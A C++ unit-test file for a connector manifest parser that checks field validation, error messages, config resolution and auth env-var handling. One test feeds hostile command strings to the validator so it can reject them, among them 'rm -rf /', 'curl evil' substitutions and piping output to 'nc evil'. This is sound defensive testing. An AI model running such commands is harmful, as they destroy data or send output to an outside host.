#include "kit/manifest.h"

#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>
#include <fstream>
#include <string>

#include "support/status_macros.h"
#include "support/temp_dir.h"

namespace da::kit {
namespace {
namespace fs = std::filesystem;

constexpr const char* kOrigin = "/conn/x/connector.yaml";

std::string Minimal(const std::string& extra = "", const std::string& caps = "[discover, read]") {
  return "name: x\nversion: \"1.2.3\"\ndescription: \"a test connector\"\ncapabilities: " + caps +
         "\n" + extra;
}

Result<Manifest> Parse(const std::string& yaml, bool check_exec = false) {
  return ParseManifest(yaml, kOrigin, {.check_executables = check_exec});
}

/// The error must name the file, the field and the problem.
void ExpectError(const std::string& yaml, const std::string& field, const std::string& problem,
                 bool check_exec = false) {
  auto m = Parse(yaml, check_exec);
  ASSERT_FALSE(m.ok()) << "accepted:\n" << yaml;
  EXPECT_EQ(m.status().code(), StatusCode::kInvalidArgument);
  const std::string& msg = m.status().message();
  EXPECT_NE(msg.find(kOrigin), std::string::npos) << msg;
  EXPECT_NE(msg.find(field), std::string::npos) << "field '" << field << "' not in: " << msg;
  EXPECT_NE(msg.find(problem), std::string::npos) << "problem '" << problem << "' not in: " << msg;
}

TEST(Manifest, ParsesEveryField) {
  auto m = Parse(R"(
name: hubspot
version: "1.0.0-beta.1"
description: "HubSpot CRM"
capabilities: [discover, read, remote]
command: ["/opt/taps/tap-hubspot", "--verbose"]
timeout_seconds: 120
auth:
  type: token
  env_vars:
    - name: HUBSPOT_TOKEN
      required: true
      description: "Private app token"
      config_key: access_token
    - OTHER_VAR
config:
  start_date: {type: string, required: true, description: "first day", format: date, env: HS_START}
  page_size: {type: integer, default: 100}
  archived: {type: boolean, default: yes}
  cache_dir: {type: path}
health_check:
  endpoint: "https://api.hubapi.com/ping?x=${start_date}"
  method: HEAD
  headers: {Authorization: "Bearer ${HUBSPOT_TOKEN}"}
  expect_status: 204
  timeout_seconds: 5
table:
  source_table: {type: string, required: true, description: "the stream name"}
)");
  ASSERT_OK(m);
  EXPECT_EQ(m->name, "hubspot");
  EXPECT_EQ(m->version, "1.0.0-beta.1");
  EXPECT_EQ(m->capabilities, Capability::kDiscover | Capability::kRead | Capability::kRemote);
  EXPECT_TRUE(m->is_external());
  EXPECT_EQ(m->command, (std::vector<std::string>{"/opt/taps/tap-hubspot", "--verbose"}));
  EXPECT_EQ(m->timeout_seconds, 120);
  EXPECT_EQ(m->auth_type, "token");
  ASSERT_EQ(m->env_vars.size(), 2u);
  EXPECT_EQ(m->env_vars[0].name, "HUBSPOT_TOKEN");
  EXPECT_TRUE(m->env_vars[0].required);
  EXPECT_EQ(m->env_vars[0].config_key, "access_token");
  EXPECT_EQ(m->env_vars[1].name, "OTHER_VAR");
  ASSERT_EQ(m->config.size(), 4u);
  EXPECT_EQ(m->config[0].name, "start_date");  // file order is kept
  EXPECT_TRUE(m->config[0].required);
  EXPECT_EQ(m->config[0].env, "HS_START");
  EXPECT_EQ(m->config[1].type, ConfigFieldType::kInteger);
  EXPECT_EQ(m->config[1].default_value, "100");
  EXPECT_EQ(m->config[2].default_value, "true");  // YAML "yes" normalized
  EXPECT_EQ(m->config[3].type, ConfigFieldType::kPath);
  ASSERT_TRUE(m->health_check.has_value());
  EXPECT_EQ(m->health_check->method, "HEAD");
  EXPECT_EQ(m->health_check->expect_status, 204);
  EXPECT_EQ(m->health_check->headers.at("Authorization"), "Bearer ${HUBSPOT_TOKEN}");
  EXPECT_EQ(m->source_table_description, "the stream name");
}

TEST(Manifest, TheShippedFilesManifestIsValid) {
  auto m = LoadManifest(fs::path(DA_SOURCE_DIR) / "connectors/files/connector.yaml");
  ASSERT_OK(m);
  EXPECT_EQ(m->name, "files");
  EXPECT_EQ(m->entrypoint, "files");
  EXPECT_FALSE(m->is_external());
  EXPECT_EQ(m->capabilities, Capability::kDiscover | Capability::kRead);
  EXPECT_EQ(m->config.size(), 3u);  // roots, base_dir, paths
  EXPECT_FALSE(m->source_table_description.empty());
}

TEST(Manifest, RejectsAnUnknownCapability) {
  ExpectError(Minimal("entrypoint: files\n", "[discover, telepathy]"), "capabilities[1]",
              "unknown capability 'telepathy'");
}

TEST(Manifest, RejectsMissingFields) {
  ExpectError("version: \"1.0.0\"\ndescription: d\ncapabilities: [read]\nentrypoint: files\n",
              "name", "is required");
  ExpectError("name: x\ndescription: d\ncapabilities: [read]\nentrypoint: files\n", "version",
              "is required");
  ExpectError("name: x\nversion: \"1.0.0\"\ncapabilities: [read]\nentrypoint: files\n",
              "description", "is required");
  ExpectError("name: x\nversion: \"1.0.0\"\ndescription: d\nentrypoint: files\n", "capabilities",
              "is required");
  ExpectError(Minimal(), "command", "give entrypoint (a built-in connector) or command");
  ExpectError(Minimal("entrypoint: files\n", "[]"), "capabilities", "at least one");
  ExpectError(Minimal("config:\n  url: {required: true}\nentrypoint: files\n"), "config.url.type",
              "is required");
}

TEST(Manifest, RejectsWrongTypes) {
  ExpectError(Minimal("entrypoint: files\n", "read"), "capabilities", "must be a list");
  ExpectError(Minimal("entrypoint: files\n", "{read: true}"), "capabilities", "must be a list");
  ExpectError(Minimal("entrypoint: files\nconfig:\n  n: {type: integer, default: abc}\n"),
              "config.n.default", "must be an integer");
  ExpectError(Minimal("entrypoint: files\nconfig:\n  n: {type: string, required: maybe}\n"),
              "config.n.required", "must be true or false");
  ExpectError(Minimal("entrypoint: files\nconfig:\n  n: {type: float}\n"), "config.n.type",
              "unknown type 'float'");
  ExpectError(Minimal("entrypoint: files\ntimeout_seconds: soon\n"), "timeout_seconds",
              "must be an integer");
  ExpectError(Minimal("entrypoint: files\ntimeout_seconds: 0\n"), "timeout_seconds",
              "between 1 and");
  ExpectError(Minimal("entrypoint: [files]\n"), "entrypoint", "must be a string");
  ExpectError("name: x\nversion: 1.0\ndescription: d\ncapabilities: [read]\nentrypoint: files\n",
              "version", "not a semantic version");
  ExpectError("name: my-tap\nversion: \"1.0.0\"\ndescription: d\ncapabilities: [read]\nentrypoint: files\n",
              "name", "not a strict identifier");
  ExpectError("- just\n- a list\n", "", "top level must be a mapping");
  ExpectError("name: [unclosed\n", "", "not valid YAML");
}

TEST(Manifest, RejectsUnknownKeys) {
  ExpectError(Minimal("entrypoint: files\ncapabilites: [read]\n"), "capabilites", "unknown key");
  ExpectError(Minimal("entrypoint: files\nauth: {type: token, envvars: [X]}\n"), "auth.envvars",
              "unknown key");
}

TEST(Manifest, RejectsBothOrNeitherEntrypointAndCommand) {
  ExpectError(Minimal("entrypoint: files\ncommand: [\"/bin/true\"]\n"), "entrypoint", "not both");
  ExpectError(Minimal(), "command", "is required");
}

TEST(Manifest, RejectsCommandsWithShellMetacharacters) {
  ExpectError(Minimal("command: [\"/usr/bin/tap; rm -rf /\"]\n"), "command[0]",
              "shell metacharacters");
  ExpectError(Minimal("command: [\"/usr/bin/tap && curl evil\"]\n"), "command[0]",
              "shell metacharacters");
  ExpectError(Minimal("command: [\"$(curl evil)\"]\n"), "command[0]", "shell metacharacters");
  ExpectError(Minimal("command: [\"/usr/bin/tap `id`\"]\n"), "command[0]", "shell metacharacters");
  ExpectError(Minimal("command: [\"/bin/sh -c 'rm -rf /'\"]\n"), "command[0]",
              "shell metacharacters");
  ExpectError(Minimal("command: [\"/usr/bin/tap\", \"--out=x|nc evil 1\"]\n"), "command[1]",
              "shell metacharacters");
  ExpectError(Minimal("command: [\"/usr/bin/tap\", \"a\\nb\"]\n"), "command[1]",
              "shell metacharacters");
  ExpectError(Minimal("command: \"/usr/bin/tap --verbose\"\n"), "command", "must be a list");
  ExpectError(Minimal("command: []\n"), "command", "must name a program");
  // A health-check command gets the same treatment.
  ExpectError(Minimal("entrypoint: files\nhealth_check: {command: [\"/bin/check|sh\"]}\n"),
              "health_check.command[0]", "shell metacharacters");
}

TEST(Manifest, RejectsRelativeMissingOrNonExecutablePrograms) {
  ExpectError(Minimal("command: [\"tap-hubspot\"]\n"), "command[0]", "must be absolute");
  ExpectError(Minimal("command: [\"/opt/../bin/sh\"]\n"), "command[0]", "normalized");
  ExpectError(Minimal("command: [\"/nonexistent/tap\"]\n"), "command[0]", "does not exist", true);
  da::testing::TempDir dir;
  const fs::path script = dir.path() / "tap.sh";
  std::ofstream(script) << "#!/bin/sh\n";
  fs::permissions(script, fs::perms::owner_read | fs::perms::owner_write);
  ExpectError(Minimal("command: [\"" + script.string() + "\"]\n"), "command[0]", "not executable",
              true);
  fs::permissions(script, fs::perms::owner_all);
  auto ok = Parse(Minimal("command: [\"" + script.string() + "\", \"--flag=a b\"]\n"), true);
  EXPECT_OK(ok);
}

TEST(Manifest, RejectsSecretsWhereEnvVarNamesBelong) {
  ExpectError(Minimal("entrypoint: files\nauth: {type: token, env_vars: [\"sk-live-abcdef123456\"]}\n"),
              "auth.env_vars[0].name", "not an environment variable name");
  ExpectError(Minimal("entrypoint: files\nauth: {type: token, env_vars: [{name: lower_case}]}\n"),
              "auth.env_vars[0].name", "not an environment variable name");
  ExpectError(Minimal("entrypoint: files\nauth: {type: magic}\n"), "auth.type", "unknown type");
  ExpectError(Minimal("entrypoint: files\nauth: {env_vars: [A, A]}\n"), "auth.env_vars[1].name",
              "listed twice");
}

TEST(Manifest, ValidatesHealthChecks) {
  ExpectError(Minimal("entrypoint: files\nhealth_check: {method: GET}\n"), "health_check",
              "exactly one of command or endpoint");
  ExpectError(Minimal("entrypoint: files\nhealth_check: {endpoint: \"ftp://x\"}\n"),
              "health_check.endpoint", "http:// or https://");
  ExpectError(Minimal("entrypoint: files\nhealth_check: {endpoint: \"http://x\", method: POST}\n"),
              "health_check.method", "GET or HEAD");
  ExpectError(Minimal("entrypoint: files\nhealth_check: {endpoint: \"http://x\", expect_status: 42}\n"),
              "health_check.expect_status", "between 100 and 599");
}

TEST(Manifest, LoadNamesTheFileAndReportsMissing) {
  da::testing::TempDir dir;
  auto missing = LoadManifest(dir.path() / "nope.yaml");
  EXPECT_EQ(missing.status().code(), StatusCode::kNotFound);
  const fs::path file = dir.path() / "connector.yaml";
  std::ofstream(file) << Minimal("entrypoint: files\n", "[read, sing]");
  auto bad = LoadManifest(file);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find(file.string() + ": capabilities[1]"), std::string::npos)
      << bad.status().message();
}

TEST(Manifest, ResolveConfigAppliesInstanceValuesEnvAndDefaults) {
  auto m = Parse(Minimal(R"(entrypoint: files
config:
  url: {type: string, required: true}
  pages: {type: integer, default: 3}
  flag: {type: boolean, env: DA_TEST_MANIFEST_FLAG}
  dir: {type: path}
)"));
  ASSERT_OK(m);
  auto missing = ResolveConfig(*m, {});
  ASSERT_FALSE(missing.ok());
  EXPECT_NE(missing.status().message().find("config.url: is required"), std::string::npos)
      << missing.status().message();

  ::setenv("DA_TEST_MANIFEST_FLAG", "on", 1);
  auto r = ResolveConfig(*m, {{"url", "http://x"}, {"extra", "kept"}});
  ::unsetenv("DA_TEST_MANIFEST_FLAG");
  ASSERT_OK(r);
  EXPECT_EQ(r->at("url"), "http://x");
  EXPECT_EQ(r->at("pages"), "3");
  EXPECT_EQ(r->at("flag"), "true");
  EXPECT_EQ(r->at("extra"), "kept");
  EXPECT_EQ(r->count("dir"), 0u);

  auto wrong = ResolveConfig(*m, {{"url", "u"}, {"pages", "many"}});
  ASSERT_FALSE(wrong.ok());
  EXPECT_NE(wrong.status().message().find("config.pages: must be an integer"), std::string::npos);
}

TEST(Manifest, MissingAuthEnvVarsNamesOnlyRequiredUnsetOnes) {
  auto m = Parse(Minimal(
      "entrypoint: files\nauth:\n  env_vars:\n    - {name: DA_TEST_REQ_SET, required: true}\n"
      "    - {name: DA_TEST_REQ_UNSET, required: true}\n    - {name: DA_TEST_OPTIONAL}\n"));
  ASSERT_OK(m);
  ::setenv("DA_TEST_REQ_SET", "value", 1);
  ::unsetenv("DA_TEST_REQ_UNSET");
  EXPECT_EQ(MissingAuthEnvVars(*m), std::vector<std::string>{"DA_TEST_REQ_UNSET"});
  ::unsetenv("DA_TEST_REQ_SET");
}

}  // namespace
}  // namespace da::kit
